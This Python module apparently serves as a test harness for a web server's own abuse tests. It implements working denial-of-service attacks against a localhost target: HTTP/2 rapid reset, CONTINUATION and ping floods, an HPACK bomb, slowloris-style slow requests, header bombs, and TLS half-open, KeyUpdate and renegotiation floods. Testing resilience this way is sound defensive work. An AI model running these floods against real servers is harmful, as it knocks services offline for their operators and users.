# SPDX-License-Identifier: GPL-3.0-or-later
"""What clients without manners do, by hand and as fast as Python can; each for a time.

An attack is a function of a Target and the moment when it is over; it connects again when it is
thrown out, and returns what it did, in numbers. tests/e2e/test_abuse.py and perf/abuse.py use
them."""

import select
import socket
import ssl
import struct
import subprocess
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
GOAWAY = 7


class Target:
    """Where it goes: ports by name, and the context of a client that knows the authority."""

    def __init__(self, web, websecure, name, context, source="127.0.0.2"):
        self.web, self.websecure, self.name = web, websecure, name
        self.context, self.source = context, source

    def plain(self, receive_buffer=None, port=None):
        connection = socket.socket()
        if receive_buffer:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        connection.settimeout(5)
        connection.bind((self.source, 0))
        connection.connect(("127.0.0.1", port or self.web))
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return connection

    def secure(self, protocol="http/1.1", receive_buffer=None, version=None):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols([protocol])
        if version:
            context.maximum_version = version
        raw = self.plain(receive_buffer, self.websecure)
        try:
            return context.wrap_socket(raw, server_hostname=self.name)
        except (OSError, ssl.SSLError):
            raw.close()
            raise

    def http2(self, settings=b"", receive_buffer=None):
        connection = self.secure("h2", receive_buffer)
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        return connection


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack("!I", stream) + payload


def literal(name, value):
    """HPACK, neither indexed nor compressed."""
    return b"\x00" + bytes([len(name)]) + name + number(len(value)) + value


def number(value, first=0, bits=7):
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([first | value])
    text, value = bytes([first | limit]), value - limit
    while value >= 128:
        text += bytes([value % 128 | 128])
        value //= 128
    return text + bytes([value])


def head(target, path=b"/"):
    """GET by https."""
    authority = target.name.encode()
    return b"\x82\x87\x04" + number(len(path)) + path + b"\x01" + number(len(authority)) + authority


def over(until):
    return time.monotonic() >= until


def drain(connection):
    """What has come, read and dropped; False: the peer has ended it."""
    if isinstance(connection, ssl.SSLSocket):
        connection.setblocking(False)
        try:
            while connection.recv(65536):
                pass
            return False
        except ssl.SSLWantReadError:
            return True
        except OSError:
            return False
        finally:
            connection.settimeout(5)
    return True


FAULTS = (OSError, ssl.SSLError)


def repeat(until, connect, send, reads=True):
    """Connects, and sends what send() makes until the peer ends it; again until the time is up."""
    connections = sent = 0
    while not over(until):
        try:
            connection = connect()
        except FAULTS:
            continue
        connections += 1
        try:
            make = send()
            while not over(until):
                connection.sendall(next(make))
                sent += 1
                if reads and not drain(connection):
                    break
        except (*FAULTS, StopIteration):
            pass
        finally:
            connection.close()
    return {"connections": connections, "batches": sent}


def hold(until, connections):
    """Keeps them, and counts those that the peer has ended."""
    poll = select.poll()
    for connection in connections:
        poll.register(connection, select.POLLRDHUP | select.POLLHUP | select.POLLERR)
    ended = 0
    while not over(until):
        for descriptor, _ in poll.poll(200):
            poll.unregister(descriptor)
            ended += 1
    for connection in connections:
        connection.close()
    return {"connections": len(connections), "ended": ended}


def many(count, connect, until):
    connections = []
    while len(connections) < count and not over(until):
        try:
            connections.append(connect())
        except FAULTS:
            break
    return connections


# ---- HTTP/2 ----

def streams(target, batch, behind):
    """Endless batches of requests, each followed by what behind(stream) says."""
    block, stream = head(target), 1
    while stream < 1 << 30:
        parts = []
        for _ in range(batch):
            parts.append(frame(HEADERS, END_STREAM | END_HEADERS, stream, block))
            parts.append(behind(stream))
            stream += 2
        yield b"".join(parts)


def rapid_reset(target, until):
    def reset(stream):
        return frame(RESET, 0, stream, struct.pack("!I", 8))
    return repeat(until, target.http2, lambda: streams(target, 500, reset))


def provoked_resets(target, until):
    """The server is made to reset them: a window update of 0."""
    def fault(stream):
        return frame(WINDOW, 0, stream, struct.pack("!I", 0))
    return repeat(until, target.http2, lambda: streams(target, 500, fault))


def forever(first, again):
    yield first + again
    while True:
        yield again


def continuations(target, until):
    """A head that never ends, 16 KB at a time."""
    field = literal(b"x", b"v" * 16000)
    first = frame(HEADERS, END_STREAM, 1, head(target))
    return repeat(until, target.http2,
                  lambda: forever(first, frame(CONTINUATION, 0, 1, field) * 16))


def empty_continuations(target, until):
    first = frame(HEADERS, END_STREAM, 1, head(target))
    return repeat(until, target.http2,
                  lambda: forever(first, frame(CONTINUATION, 0, 1) * 5000))


def settings_flood(target, until):
    return repeat(until, target.http2,
                  lambda: forever(b"", frame(SETTINGS, 0, 0, struct.pack("!HI", 3, 100)) * 2000))


def ping_flood(target, until):
    return repeat(until, target.http2, lambda: forever(b"", frame(PING, 0, 0, b"12345678") * 2000))


def deaf_ping_flood(target, until):
    """The answers are not read."""
    return repeat(until, lambda: target.http2(receive_buffer=4096),
                  lambda: forever(b"", frame(PING, 0, 0, b"12345678") * 200), reads=False)


def priority_flood(target, until):
    return repeat(until, target.http2,
                  lambda: forever(b"", frame(PRIORITY, 0, 1, struct.pack("!IB", 0, 9)) * 2000))


def window_flood(target, until):
    return repeat(until, target.http2,
                  lambda: forever(b"", frame(WINDOW, 0, 0, struct.pack("!I", 1)) * 2000))


def window_crumbs(target, until):
    """A body that may come a byte at a time."""
    first = frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 0)) + \
        frame(HEADERS, END_STREAM | END_HEADERS, 1, head(target, b"/large"))
    return repeat(until, target.http2,
                  lambda: forever(first, frame(WINDOW, 0, 1, struct.pack("!I", 1)) * 2000))


def unknown_frames(target, until):
    return repeat(until, target.http2, lambda: forever(b"", frame(0x2a, 0, 0) * 2000))


def late_heads(target, until):
    """For a stream that is over, of fields that cost the decoder what they can."""
    first = frame(HEADERS, END_HEADERS, 1, head(target) + b"\x40\x01x" + number(4000) + b"v" * 4000)
    late = frame(HEADERS, END_STREAM | END_HEADERS, 1, b"\xbe" * 15000)
    return repeat(until, target.http2,
                  lambda: forever(first + frame(RESET, 0, 1, struct.pack("!I", 8)), late * 20))


def empty_data(target, until):
    first = frame(HEADERS, END_HEADERS, 1, head(target))
    return repeat(until, target.http2, lambda: forever(first, frame(DATA, 0, 1) * 2000))


def hpack_bomb(target, until):
    """A field of 4 KB into the table, and then 15,000 references of a byte to it."""
    def send():
        block = head(target) + b"\x40\x01x" + number(4000) + b"v" * 4000
        yield frame(HEADERS, END_STREAM | END_HEADERS, 1, block)
        bomb = frame(HEADERS, END_STREAM | END_HEADERS, 0, head(target) + b"\xbe" * 15000)
        stream = 3
        while True:
            yield b"".join(bomb[:5] + struct.pack("!I", stream + 2 * i) + bomb[9:]
                           for i in range(20))
            stream += 40
    return repeat(until, target.http2, send)


def zero_windows(target, until, count=50, path=b"/large"):
    """Many streams of many connections, none of which may send its answer."""
    def connect():
        connection = target.http2(struct.pack("!HI", 4, 0))
        block = head(target, path)
        connection.sendall(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block)
                                    for i in range(100)))
        return connection
    return hold(until, many(count, connect, until))


def stalled_windows(target, until, count=50, path=b"/large"):
    """The windows are of the usual size, and never opened again."""
    def connect():
        connection = target.http2()
        block = head(target, path)
        connection.sendall(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block)
                                    for i in range(100)))
        return connection
    return hold(until, many(count, connect, until))


# ---- HTTP/1 ----

def slow_heads(target, until, count=1000):
    def connect():
        connection = target.plain()
        connection.sendall(b"GET / HTTP/1.1\r\nHost: a.test\r\n")
        return connection
    return trickle(until, many(count, connect, until), b"X-a: b\r\n")


def slow_bodies(target, until, count=1000):
    def connect():
        connection = target.plain()
        connection.sendall(b"POST / HTTP/1.1\r\nHost: a.test\r\nContent-Length: 100000\r\n\r\n")
        return connection
    return trickle(until, many(count, connect, until), b"x")


def trickle(until, connections, piece):
    ended = set()
    while not over(until):
        for connection in connections:
            if connection in ended or over(until):
                continue
            try:
                connection.send(piece)
            except FAULTS:
                ended.add(connection)
        time.sleep(0.05)
    for connection in connections:
        connection.close()
    return {"connections": len(connections), "ended": len(ended)}


def slow_readers(target, until, count=300, path="/large"):
    def connect():
        connection = target.plain(receive_buffer=2048)
        connection.sendall(f"GET {path} HTTP/1.1\r\nHost: a.test\r\n\r\n".encode())
        return connection
    return hold(until, many(count, connect, until))


def header_bombs(target, until):
    """Heads of a megabyte, of as many fields as fit."""
    bomb = b"GET / HTTP/1.1\r\nHost: a.test\r\n" + b"".join(
        b"X-%d: %s\r\n" % (i, b"v" * 200) for i in range(5000))
    return repeat(until, target.plain, lambda: forever(b"", bomb), reads=False)


# ---- TLS ----

def hello(target):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=target.name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def half_open(target, until, count=10000, part=1.0):
    """ClientHellos, or parts of them, that nothing follows."""
    record = hello(target)
    first = record[:max(1, int(len(record) * part))]

    def connect():
        connection = target.plain(port=target.websecure)
        connection.sendall(first)
        return connection
    return hold(until, many(count, connect, until))


def half_hellos(target, until, count=10000):
    return half_open(target, until, count, 0.5)


def tiny_records(target, until):
    """A request byte by byte, each in a record of its own."""
    request = b"GET / HTTP/1.1\r\nHost: a.test\r\nX: " + b"v" * 3000

    def send():
        for byte in request:
            yield bytes([byte])
    return repeat(until, target.secure, send, reads=False)


def key_updates(target, until):
    """By `openssl s_client`, whose line K is one KeyUpdate that asks for another."""
    connections = 0
    while not over(until):
        process = subprocess.Popen(
            ["openssl", "s_client", "-connect", f"127.0.0.1:{target.websecure}", "-servername",
             target.name, "-tls1_3", "-quiet", "-no_ign_eof"],
            stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        connections += 1
        try:
            while not over(until) and process.poll() is None:
                process.stdin.write(b"K\n")
                process.stdin.flush()
        except BrokenPipeError:
            pass
        finally:
            process.kill()
            process.wait()
            process.stdin = None
    return {"connections": connections}


def renegotiation(target, until):
    """By `openssl s_client`, line R, in TLS 1.2, where the client may ask for it."""
    connections = 0
    while not over(until):
        subprocess.run(
            ["openssl", "s_client", "-connect", f"127.0.0.1:{target.websecure}", "-servername",
             target.name, "-tls1_2", "-no_ign_eof"], input=b"R\n" * 100, check=False,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20)
        connections += 1
    return {"connections": connections}


HTTP1 = [slow_heads, slow_bodies, slow_readers, header_bombs]
TLS = [half_open, half_hellos, tiny_records, key_updates, renegotiation]
HTTP2 = [rapid_reset, provoked_resets, continuations, empty_continuations, settings_flood,
         ping_flood, deaf_ping_flood, priority_flood, window_flood, window_crumbs,
         unknown_frames, late_heads, empty_data, hpack_bomb, zero_windows, stalled_windows]
